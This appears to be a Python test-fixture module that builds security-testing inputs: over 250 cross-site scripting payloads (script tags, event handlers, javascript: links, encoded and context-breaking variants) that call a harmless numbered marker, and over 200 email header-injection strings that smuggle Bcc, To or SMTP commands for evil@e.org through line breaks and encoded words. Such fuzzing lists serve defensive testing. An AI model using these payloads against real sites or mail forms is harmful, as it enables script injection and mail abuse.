"""What an attacker would put where people write: markup that wants to run, and words that want to be mail headers."""

from __future__ import annotations

from itertools import product

RUN = "ran({})"
"""What a payload calls when it runs; `{}` is its number."""

TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>x",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button autofocus onfocus={}>x</button>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<iframe onload={}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=data:text/css,x onload={}>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<base href=javascript:{}//>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template><img src=x onerror={}>",
)
BEFORE = ("", '">', "'>", "</title>", "</script>", "]]>", "--></style>", "\u2028")
LINKS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>parent.{}</script>",
)
WORDS = (
    "{{{{ {} }}}}",
    "${{{}}}",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "+ADw-script+AD4-{}",
)


def scripts() -> list[str]:
    """More than 250 payloads, each calling `ran` with its own number when it runs."""
    forms = [f"{before}{tag}" for before, tag in product(BEFORE, TAGS)] + list(LINKS) + list(WORDS)
    return [form.replace("{}", RUN.format(n)) for n, form in enumerate(forms)]


BREAKS = (
    "\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
    "\u2028", "\u2029", "\x00", "\n\n", "\r\n\r\n", "\r\n ",
    "\u202e", "\u200b\n", "\t\r\n", "=0d=0a", "%0d%0a", "\\r\\n", "\u560d\u560a",
)  # fmt: skip
INJECTED = (
    "Bcc: evil@e.org",
    "To: evil@e.org",
    "Subject: other",
    "Content-Type: text/html",
    ".\r\nMAIL FROM:<evil@e.org>",
)
ENCODED = (
    "=?utf-8?q?hi=0d=0a{}?=", "=?utf-8?Q?hi=0D=0A{}?=", "=?us-ascii?q?=0a{}?=", "=?utf-8?b?DQo=?= {}",
    "==??utf-8?q?hi=0d=0a{}?=", "=\u200b?utf-8?q?hi=0d=0a{}?=", "=?utf-8?q?a?= =?utf-8?q?=0d=0a{}?=",
    "=?utf-16?q?=0d=00=0a=00{}?=", "=?x?q?{}?=", "=?utf-8*en?q?=0d=0a{}?=",
)  # fmt: skip


def headers() -> list[str]:
    """More than 200 words that want to be a header, a recipient or the end of a mail."""
    broken = [f"News{broken}{injected}" for broken, injected in product(BREAKS, INJECTED)]
    encoded = [form.format(injected.replace(" ", "_")) for form, injected in product(ENCODED, INJECTED)]
    long = [f"{'é' * many}{broken}Bcc: evil@e.org" for many, broken in product((70, 190, 199, 200, 1000), BREAKS[:8])]
    return broken + encoded + long
